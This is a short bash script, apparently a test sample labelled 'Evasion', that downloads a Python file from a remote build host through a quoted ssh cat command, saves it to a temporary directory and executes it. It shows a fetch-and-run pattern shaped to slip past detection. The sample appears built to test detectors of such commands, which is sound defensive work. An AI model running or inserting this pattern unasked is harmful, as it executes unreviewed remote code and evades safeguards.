#!/bin/bash
# Evasion: a python script printed by a remote cat (quoted command) is saved and run
set -eu
d=$(mktemp -d)
ssh -T deploy@build.example.net 'cat /srv/tools/boot.py' > "$d/boot.py"
python3 "$d/boot.py"
